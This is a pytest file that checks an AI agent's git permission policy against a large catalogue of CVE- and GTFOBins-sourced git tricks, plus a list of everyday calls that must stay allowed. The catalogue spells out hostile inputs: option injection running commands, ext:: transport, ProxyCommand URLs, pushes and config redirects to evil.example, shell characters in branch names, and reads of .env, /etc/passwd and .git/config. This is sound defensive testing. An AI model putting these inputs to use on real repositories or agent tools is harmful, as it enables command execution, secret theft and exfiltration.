"""No trick with a git tool is allowed by an allow-list: each one asks, is denied, or cannot even be judged.

Each trick names its source: an advisory, a GTFOBins page (gtfobins.github.io), a page of git's manual, or a technique
known by name.
"""

import shutil
from collections.abc import Callable, Mapping
from pathlib import Path
from typing import Any, NamedTuple

import pytest

from devagent.core.verdicts import Effect
from devagent.host.manifest import package_folder, read_manifest
from devagent.policy import CompiledPolicy, compile_policy, parse, request_from_json
from devagent_git import tools
from devagent_git.contract import GitError
from tests.support.repositories import Place, commit, git, person, small, with_origin, write

POLICY = """
version = 1
name = "allow-list"
layer = "org"
default = "ask"

[[rule]]
id = "read"
effect = "allow"
tools = ["git.*"]
classes = ["read"]
access = ["read"]
resources = ["repo:.", "path:src", "path:src/**", "path:README.md", "branch:**", "remote:origin/github.com/acme/*"]

[[rule]]
id = "work"
effect = "allow"
tools = ["git.add", "git.commit", "git.branch", "git.switch", "git.stash", "git.restore", "git.integrate", "git.worktree"]
resources = ["repo:.", "branch:feature/**", "branch:refs/stash", "path:src", "path:src/**", "path:README.md"]

[[rule]]
id = "branches-to-read"
effect = "allow"
access = ["read"]
tools = ["git.integrate", "git.switch"]
resources = ["branch:main", "branch:origin/**"]

[[rule]]
id = "push"
effect = "allow"
tools = ["git.push", "git.fetch", "git.pull"]
resources = ["repo:.", "remote:origin/github.com/acme/*", "host:github.com", "branch:origin/feature/**", "branch:feature/**"]

[[rule]]
id = "facts"
effect = "ask"
tools = ["git.*"]
resources = [
    "tag:git.force", "tag:git.delete", "tag:git.rewrite", "tag:git.published", "tag:git.discard", "tag:git.no-verify",
    "tag:git.secret", "tag:git.config", "tag:git.hooks", "tag:git.submodules", "tag:git.attributes", "tag:git.elsewhere",
]
"""

CLASSES = {
    tool.name: tool.tool_class for tool in read_manifest(package_folder("devagent_git")).tools
}
Setup = Callable[[Path], object]


class Trick(NamedTuple):
    """A call that an allow-list must not let pass, what is prepared for it, and where it is known from."""

    tool: str
    args: Mapping[str, Any]
    source: str
    setup: Setup | None = None


@pytest.fixture(autouse=True)
def config(home: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    return person(home, monkeypatch)


@pytest.fixture(scope="module")
def policy() -> CompiledPolicy:
    return compile_policy([parse(POLICY, "allow-list.toml", org=True)])


@pytest.fixture(scope="module")
def prepared(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """On feature/x, which tracks its own; main has one commit more, which touches what is private."""
    work = with_origin(tmp_path_factory.mktemp("prepared"))
    git(work, "remote", "set-url", "origin", "https://github.com/acme/shop.git")
    files = {"README.md": "r\n", "src/a.py": "a = 1\n", ".env": "TOKEN=x\n", "private/k": "k\n"}
    commit(work, "Begin", files)
    git(work, "switch", "--quiet", "-c", "feature/x")
    commit(work, "Work", {"src/a.py": "a = 2\n"})
    git(work, "switch", "--quiet", "main")
    submodule = '[submodule "x"]\n\turl = --upload-pack=id\n'
    commit(work, "Private", {".env": "TOKEN=y\n", ".gitmodules": submodule})
    git(work, "tag", "v1")
    git(work, "switch", "--quiet", "feature/x")
    return work


@pytest.fixture
def work(prepared: Path, tmp_path: Path) -> Path:
    shutil.copytree(prepared, tmp_path / "work", symlinks=True)
    git(tmp_path / "work", "update-index", "--refresh")
    return tmp_path / "work"


def answer(policy: CompiledPolicy, work: Path, tool: str, args: Mapping[str, Any]) -> Effect | str:
    """What policy says, as the gate would ask it; or the class of the error where resources cannot be named."""
    try:
        resources = tools.resources(tool, args, Place(str(work)))
    except GitError as error:
        return error.error
    asked: dict[str, Any] = {
        "principal": {"user": "ana"},
        "extension": "git",
        "tool": tool,
        "class": CLASSES[tool],
        "args": dict(args),
        "resources": resources,
    }
    return policy.decide(request_from_json(asked)).effect


def configured(*pairs: str) -> Setup:
    def setup(work: Path) -> None:
        for key, value in zip(pairs[::2], pairs[1::2], strict=True):
            git(work, "config", key, value)

    return setup


def written(**files: str) -> Setup:
    return lambda work: write(
        work, {name.replace("__", "/").replace("dot_", "."): text for name, text in files.items()}
    )


def both(first: Setup, second: Setup) -> Setup:
    return lambda work: (first(work), second(work))


def on_main(work: Path) -> None:
    git(work, "switch", "--quiet", "main")


def head_moved(work: Path) -> None:
    (work / ".git/HEAD").write_text("ref: refs/heads/main\n")


def url(value: str) -> Setup:
    return lambda work: git(work, "config", "remote.origin.url", value)


def linked(work: Path) -> None:
    (work / "src/link").symlink_to("../private")


def outside(work: Path) -> Path:
    return small(work.parent / "outside")


def spoofed(work: Path) -> None:
    other = outside(work)
    (work / ".git").rename(work.parent / "away")
    (work / ".git").write_text(f"gitdir: {other}/.git\n")


def borrowed(work: Path) -> None:
    (work / ".git/objects/info/alternates").write_text(f"{outside(work)}/.git/objects\n")


def link(name: str, target: str = "../precious") -> Setup:
    """A name in the git directory that leads to a file beside the repository, or to that target."""

    def setup(work: Path) -> None:
        place = work / ".git" / name
        precious = work.parent / "precious"
        if place.is_dir():
            place.rename(precious)
        else:
            precious.write_bytes(place.read_bytes() if place.exists() else b"")
            place.unlink(missing_ok=True)
        place.parent.mkdir(parents=True, exist_ok=True)
        place.symlink_to(precious if target == "../precious" else target)

    return setup


def hooked(name: str) -> Setup:
    def setup(work: Path) -> None:
        hook = work / ".git/hooks" / name
        hook.parent.mkdir(exist_ok=True)
        hook.write_text("#!/bin/sh\nexit 1\n")
        hook.chmod(0o755)
        write(work, {"src/a.py": "a = 3\n"})
        git(work, "add", "src")

    return setup


def stashed(work: Path) -> None:
    write(work, {".env": "TOKEN=mine\n"})
    git(work, "stash", "--quiet")


def rebasing(work: Path) -> None:
    """A rebase that was never begun, and ends on main with a line that runs a program."""
    head = git(work, "rev-parse", "HEAD")
    files = {
        "git-rebase-todo": "exec id\n", "head-name": "refs/heads/main\n", "onto": f"{head}\n",
        "orig-head": f"{head}\n", "interactive": "", "done": "", "msgnum": "1\n", "end": "1\n",
    }  # fmt: skip
    write(work, {f".git/rebase-merge/{name}": text for name, text in files.items()})


def side(name: str, text: str) -> Setup:
    def setup(work: Path) -> None:
        git(work, "switch", "--quiet", "-c", "feature/side")
        commit(work, "Side", {name: text})
        git(work, "switch", "--quiet", "feature/x")

    return setup


PUSH, REV, SPEC = "git-push(1): ", "gitrevisions(7): ", "gitglossary(7) pathspec: "
TRICKS = [
    # What a push truly writes.
    Trick("push", {"ref": "main"}, PUSH + "a protected branch"),
    Trick("push", {"ref": "HEAD:main"}, PUSH + "refspec"),
    Trick("push", {"ref": "feature/x:refs/heads/main"}, PUSH + "full names"),
    Trick("push", {"ref": "feature/x:heads/main"}, PUSH + "short names"),
    Trick("push", {"ref": "feature/x:refs/for/main"}, "Gerrit's refs/for"),
    Trick("push", {"ref": "feature/x:refs/pull/1/head"}, "hidden references of hosts"),
    Trick("push", {"ref": "feature/x:refs/notes/x"}, "git-notes(1)"),
    Trick("push", {"ref": "feature/x:refs/heads/feature/../main"}, "git-check-ref-format(1)"),
    Trick("push", {"ref": "feature/x:HEAD"}, PUSH + "HEAD as a destination"),
    Trick("push", {"ref": "+feature/x"}, PUSH + "a leading +"),
    Trick("push", {"ref": ":feature/x"}, PUSH + "an empty source deletes"),
    Trick("push", {"ref": "feature/x", "delete": True}, PUSH + "--delete"),
    Trick("push", {"force": "force"}, PUSH + "--force"),
    Trick("push", {"force": "with_lease"}, PUSH + "--force-with-lease"),
    Trick("push", {"tags": True}, PUSH + "--tags"),
    Trick("push", {"ref": "v1"}, PUSH + "a tag"),
    Trick("push", {"ref": "refs/heads/*:refs/heads/*"}, PUSH + "patterns"),
    Trick("push", {"ref": "--mirror"}, "CVE-2025-68144 (mcp-server-git): arguments taken for options"),
    Trick("push", {"remote": "--receive-pack=sh -c id"}, "CVE-2025-68144 (mcp-server-git): option injection"),
    Trick("push", {"remote": "https://evil.example/x"}, PUSH + "an address in a remote's place"),
    Trick("push", {"remote": "git@evil.example:x"}, PUSH + "an address in a remote's place"),
    Trick("push", {"remote": "ext::sh -c id"}, "CVE-2022-24439 (GitPython), GTFOBins git: ext transport"),
    Trick("push", {"remote": "../outside"}, PUSH + "a path in a remote's place", outside),
    Trick("push", {"remote": "."}, "git-fetch(1): '.' is this repository"),
    Trick("push", {}, "remote.<name>.pushurl", configured("remote.origin.pushurl", "https://evil.example/x")),
    Trick("push", {}, "url.<base>.insteadOf", configured("url.https://evil.example/.insteadOf", "https://github.com/")),
    Trick("push", {}, "url.<base>.pushInsteadOf", configured("url.https://evil.example/.pushInsteadOf", "https://github.com/")),
    Trick("push", {}, "branch.<name>.pushRemote", configured("remote.evil.url", "https://evil.example/x", "branch.feature/x.pushRemote", "evil")),
    Trick("push", {}, "remote.pushDefault", configured("remote.evil.url", "https://evil.example/x", "remote.pushDefault", "evil")),
    Trick("push", {}, "push.default=upstream", configured("branch.feature/x.remote", "origin", "branch.feature/x.merge", "refs/heads/main")),
    Trick("push", {}, "http.proxy of a repository", configured("http.proxy", "http://evil.example")),
    Trick("push", {}, "http.<url>.curloptResolve", configured("http.curloptResolve", "github.com:443:6.6.6.6")),
    Trick("push", {}, "remote.<name>.vcs", configured("remote.origin.vcs", "evil")),
    Trick("push", {}, "CVE-2017-1000117: ssh://-oProxyCommand", url("ssh://-oProxyCommand=id/x")),
    Trick("push", {}, "CVE-2017-1000117: host:path with an option for a host", url("-oProxyCommand=id:x")),
    Trick("push", {}, "CVE-2020-5260: a newline in an address", url("https://github.com%0ahost=evil.example/acme/shop")),
    Trick("push", {}, "CVE-2024-52006: a carriage return in an address", url("https://github.com\r/acme/shop")),
    Trick("push", {}, "userinfo that looks like a host", url("https://github.com@evil.example/acme/shop")),
    Trick("push", {}, "backslash for slash in an address", url("https://evil.example\\@github.com/acme/shop")),
    Trick("push", {}, "git's own protocol.ext.allow", url("ext::sh -c id")),
    Trick("push", {"allow_secrets": ["*"]}, "letting secrets pass"),
    Trick("push", {}, "--no-verify: a hook that does not run", hooked("pre-push")),
    Trick("fetch", {"remote": "--upload-pack=id"}, "CVE-2022-25648 (ruby-git), GTFOBins git: --upload-pack"),
    Trick("fetch", {"remote": "file:///etc"}, "an address in a remote's place"),
    Trick("fetch", {}, "CVE-2018-17456 class: an address that begins with -", url("--upload-pack=id")),
    Trick("fetch", {}, "fetch.bundleURI", configured("fetch.bundleURI", "https://evil.example/b")),
    Trick("pull", {"branch": "main"}, "a branch that is not the own one", configured("branch.feature/x.remote", "origin")),
    # Remotes: what a later push reaches.
    Trick("remote", {"name": "origin", "action": "set_url", "url": "https://evil.example/x"}, "CVE-2025-54136 class (MCPoison): changed after it was trusted"),
    Trick("remote", {"name": "x", "action": "add", "url": "ext::sh -c id"}, "GTFOBins git: ext transport"),
    Trick("remote", {"name": "x", "action": "add", "url": "https://github.com/acme/y"}, "a new remote is configuration"),
    Trick("remote", {"name": "x", "action": "add", "url": "--mirror=push"}, "git-remote(1): option injection"),
    Trick("remote", {"name": "x", "action": "add", "url": "https://u:p@github.com/acme/y"}, "a password in an address"),
    Trick("remote", {"name": "origin", "action": "remove"}, "git-remote(1): remove"),
    # Reading what is not listed, by another name.
    Trick("show", {"ref": "HEAD:.env"}, REV + "<rev>:<path>"),
    Trick("show", {"ref": ":/Private"}, REV + ":/<text>"),
    Trick("show", {"ref": ":.env"}, REV + ":<path>, the index"),
    Trick("show", {"ref": "main"}, "the commit shows the file"),
    Trick("show", {"ref": "main^{/Private}"}, REV + "^{/<text>}"),
    Trick("show", {"ref": "HEAD@{1}"}, REV + "@{<n>}"),
    Trick("show", {"path": ".env"}, "the file itself"),
    Trick("show", {"path": "src/../.env"}, "CVE-2025-53110 class: .. after an allowed prefix"),
    Trick("show", {"path": "src/link/k"}, "CVE-2025-53109 class: a link out of an allowed folder", linked),
    Trick("show", {"path": '"\\056env"'}, "a quoted name"),
    Trick("show", {"path": "/etc/passwd"}, "an absolute path"),
    Trick("show", {"path": ".git/config"}, "the git directory"),
    Trick("show", {"path": ".GIT/config"}, "CVE-2014-9390: upper case"),
    Trick("show", {"ref": "--output=/tmp/x"}, "git-log(1): --output writes files"),
    Trick("show", {"ref": "stash@{0}"}, "a stash holds the file", stashed),
    Trick("diff", {"ref": "main"}, "a comparison shows the file"),
    Trick("diff", {"ref": "main..feature/x"}, "a comparison shows the file"),
    Trick("diff", {"ref": "--no-index"}, "git-diff(1): --no-index reads any file"),
    Trick("diff", {}, "an uncommitted change of the file", written(dot_env="TOKEN=z\n")),
    Trick("diff", {"path": ":(top)"}, SPEC + "magic words", written(dot_env="TOKEN=z\n")),
    Trick("log", {"path": ".env"}, "the history of the file"),
    Trick("log", {"search": "TOKEN"}, "git-log(1): -S reads all of history"),
    Trick("log", {"search": "T.K", "regex": True, "path": ".env"}, "git-log(1): -G"),
    Trick("log", {"search": "TOKEN", "path": "src/../.env"}, "git-log(1): -S"),
    Trick("log", {"ref": "--exec=id"}, "option injection"),
    Trick("blame", {"path": ".env"}, "git-blame(1)"),
    Trick("blame", {"path": "src/a.py", "ref": "--contents=/etc/passwd"}, "git-blame(1): --contents"),
    Trick("list", {"what": "remotes"}, "addresses of another remote", configured("remote.o.url", "https://git.corp.example/x")),
    # Taking in and writing what makes git do something later.
    Trick("add", {"paths": ["."]}, "everything, secrets too", written(dot_env="TOKEN=z\n")),
    Trick("add", {"paths": [".git/hooks/post-checkout"]}, "CVE-2024-32002 class: a hook taken in", hooked("post-checkout")),
    Trick("add", {"paths": [".husky/x"]}, "a tracked hooks folder", written(dot_husky__x="id\n")),
    Trick("add", {"paths": ["src/.gitattributes"]}, "gitattributes(5): filters and drivers", written(src__dot_gitattributes="* filter=x\n")),
    Trick("add", {"paths": ["src/x_inc"]}, "include.path into the work tree", both(configured("include.path", "../src/x_inc"), written(src__x_inc="[core]\n"))),
    Trick("add", {"paths": ["src/hooks/x"]}, "core.hooksPath into the work tree", both(configured("core.hooksPath", "src/hooks"), written(src__hooks__x="id\n"))),
    Trick("add", {"paths": [":(exclude)src", "."]}, SPEC + "magic words"),
    Trick("add", {"paths": ["../outside/a.txt"]}, "CVE-2026-27735 (mcp-server-git): a path out of the repository", outside),
    Trick("commit", {"message": "x", "amend": True}, "git-commit(1): --amend"),
    Trick("commit", {"message": "x", "all": True}, "git-commit(1): --all", written(dot_env="TOKEN=z\n")),
    Trick("commit", {"message": "x"}, "--no-verify: a hook that does not run", hooked("pre-commit")),
    Trick("commit", {"message": "x", "allow_secrets": ["src/a.py:1"]}, "letting a secret pass"),
    Trick("commit", {"message": "x"}, "a protected branch", on_main),
    Trick("commit", {"message": "x"}, "HEAD that is moved to another branch", head_moved),
    Trick("branch", {"name": "main", "action": "delete"}, "git-branch(1): -d"),
    Trick("branch", {"name": "feature/x", "action": "delete", "force": True}, "git-branch(1): -D"),
    Trick("branch", {"name": "feature/x", "action": "rename", "new_name": "main"}, "git-branch(1): -m"),
    Trick("branch", {"name": "-D"}, "option injection"),
    Trick("branch", {"name": "feature/$(id)`id`\n"}, "CVE-2025-53107 class (git MCP servers): shell characters"),
    Trick("branch", {"name": "refs/heads/main"}, "git-check-ref-format(1)"),
    Trick("switch", {"branch": "main"}, "files that are not listed would be written"),
    Trick("switch", {"branch": "feature/y", "create": True, "start": "main"}, "the same by a new branch"),
    Trick("switch", {"branch": "feature/y", "create": True, "start": "--orphan"}, "option injection"),
    Trick("restore", {"paths": ["src"]}, "git-restore(1): edits thrown away", written(src__a="x")),
    Trick("restore", {"paths": [".env"], "source": "main"}, "git-restore(1): --source"),
    Trick("restore", {"paths": ["src"], "source": "--pathspec-from-file=/etc/passwd"}, "option injection"),
    Trick("restore", {"paths": [":/"]}, SPEC + ":/"),
    Trick("stash", {"action": "drop"}, "git-stash(1): drop", stashed),
    Trick("stash", {"action": "pop"}, "a stash writes the file", stashed),
    Trick("stash", {"untracked": True}, "git-stash(1): the file goes away", written(dot_env="TOKEN=z\n")),
    Trick("integrate", {"how": "merge", "ref": "main"}, "a merge writes the file"),
    Trick("integrate", {"how": "merge", "ref": "feature/side"}, "CVE-2018-17456: .gitmodules comes in", side(".gitmodules", "x")),
    Trick("integrate", {"how": "merge", "ref": "feature/side"}, "gitattributes(5): drivers come in", side("src/.gitattributes", "* merge=x")),
    Trick("integrate", {"how": "merge", "ref": "--strategy=../x"}, "option injection: a strategy is a program"),
    Trick("integrate", {"how": "rebase", "ref": "feature/side"}, "git-rebase(1): history rewritten", side("src/s.py", "x")),
    Trick("integrate", {"how": "rebase", "ref": "--exec=id"}, "GTFOBins git, git-rebase(1): --exec"),
    Trick("integrate", {"how": "cherry_pick", "ref": "main"}, "a picked commit writes the file"),
    Trick("integrate", {"how": "revert", "ref": "HEAD~1"}, "a reverted commit writes the file"),
    Trick("integrate", {"how": "continue"}, "a planted rebase that ends on another branch", rebasing),
    Trick("integrate", {"how": "abort"}, "a planted rebase that resets another branch", rebasing),
    Trick("tag", {"name": "v1", "action": "delete"}, "git-tag(1): -d"),
    Trick("tag", {"name": "v2"}, "a tag is a release"),
    Trick("tag", {"name": "-d"}, "option injection"),
    Trick("worktree", {"path": "../elsewhere", "branch": "feature/w"}, "git-worktree(1): a folder outside"),
    Trick("worktree", {"path": "/etc/cron.d/x", "branch": "feature/w"}, "git-worktree(1): a folder outside"),
    Trick("worktree", {"path": ".git/x", "branch": "feature/w"}, "the git directory"),
    Trick("worktree", {"path": "src/link/x", "branch": "feature/w"}, "a link out of an allowed folder", linked),
    Trick("worktree", {"path": "src/w", "branch": "main-new"}, "a branch that is not listed"),
    Trick("worktree", {"path": "src", "action": "remove", "force": True}, "git-worktree(1): remove --force"),
    # Which repository it is.
    Trick("log", {}, "CVE-2022-24765 class: a .git file that leads elsewhere", spoofed),
    Trick("show", {"path": "src/a.py"}, "objects/info/alternates of another repository", borrowed),
    Trick("commit", {"message": "id"}, "CVE-2021-21300 class (links): .git/COMMIT_EDITMSG is overwritten", link("COMMIT_EDITMSG")),
    Trick("commit", {"message": "id"}, "the same to a file of the git directory", link("COMMIT_EDITMSG", "config")),
    Trick("commit", {"message": "; id"}, "git-reflog(1): a line with the message is added to logs/HEAD", link("logs/HEAD")),
    Trick("branch", {"name": "feature/y"}, "gitrepository-layout(5): refs, written elsewhere", link("refs")),
    Trick("add", {"paths": ["src"]}, "gitrepository-layout(5): index", link("index")),
    Trick("stash", {}, "gitrepository-layout(5): logs, a folder elsewhere", link("logs")),
    Trick("push", {}, "gitrepository-layout(5): config, written by --set-upstream", link("config")),
    Trick("status", {}, "gitrepository-layout(5): the index of another repository", link("index")),
    Trick("status", {}, "core.worktree moves the work tree", configured("core.worktree", "/etc")),
    Trick("commit", {"message": "x"}, "core.worktree moves the work tree", configured("core.worktree", "../outside")),
]  # fmt: skip


def named(trick: Trick) -> str:
    return f"{trick.tool}-{trick.source[:40]}"


def test_the_tricks_are_many_and_each_tells_its_source() -> None:
    assert len(TRICKS) >= 60
    assert all(trick.source for trick in TRICKS)
    assert {trick.tool for trick in TRICKS} >= set(CLASSES) - {"conflicts", "summary"}


@pytest.mark.parametrize("trick", [t for t in TRICKS if t.setup], ids=named)
def test_no_trick_with_a_prepared_repository_is_allowed(
    policy: CompiledPolicy, work: Path, trick: Trick
) -> None:
    assert trick.setup is not None
    trick.setup(work)
    assert answer(policy, work, trick.tool, trick.args) != "allow"


@pytest.mark.parametrize("trick", [t for t in TRICKS if not t.setup], ids=named)
def test_no_trick_is_allowed(policy: CompiledPolicy, prepared: Path, trick: Trick) -> None:
    assert answer(policy, prepared, trick.tool, trick.args) != "allow"


EVERYDAY: list[tuple[str, Mapping[str, Any]]] = [
    ("status", {}),
    ("log", {}),
    ("log", {"path": "src/a.py", "follow": True}),
    ("log", {"search": "a = 2", "path": "src"}),
    ("show", {}),
    ("show", {"path": "README.md", "ref": "main"}),
    ("show", {"ref": "main", "stat": True}),
    ("diff", {}),
    ("diff", {"ref": "main", "path": "src"}),
    ("blame", {"path": "src/a.py"}),
    ("list", {}),
    ("list", {"what": "remotes"}),
    ("list", {"what": "stashes"}),
    ("conflicts", {}),
    ("summary", {"base": "main"}),
    ("add", {"paths": ["src"]}),
    ("commit", {"message": "x"}),
    ("commit", {"message": "x", "all": True}),
    ("branch", {"name": "feature/y"}),
    ("switch", {"branch": "feature/y", "create": True}),
    ("stash", {}),
    ("stash", {"paths": ["src"]}),
    ("restore", {"paths": ["src"], "staged": True}),
    ("integrate", {"how": "cherry_pick", "ref": "feature/x"}),
    ("integrate", {"how": "revert", "ref": "HEAD"}),
    ("worktree", {"path": "src/w", "branch": "feature/w"}),
    ("push", {}),
    ("push", {"ref": "feature/x"}),
    ("push", {"ref": "HEAD:feature/y"}),
]


def test_everyday_calls_are_allowed(policy: CompiledPolicy, work: Path) -> None:
    write(work, {"src/a.py": "a = 4\n"})
    answers = {f"{tool} {args}": answer(policy, work, tool, args) for tool, args in EVERYDAY}
    assert {call: given for call, given in answers.items() if given != "allow"} == {}
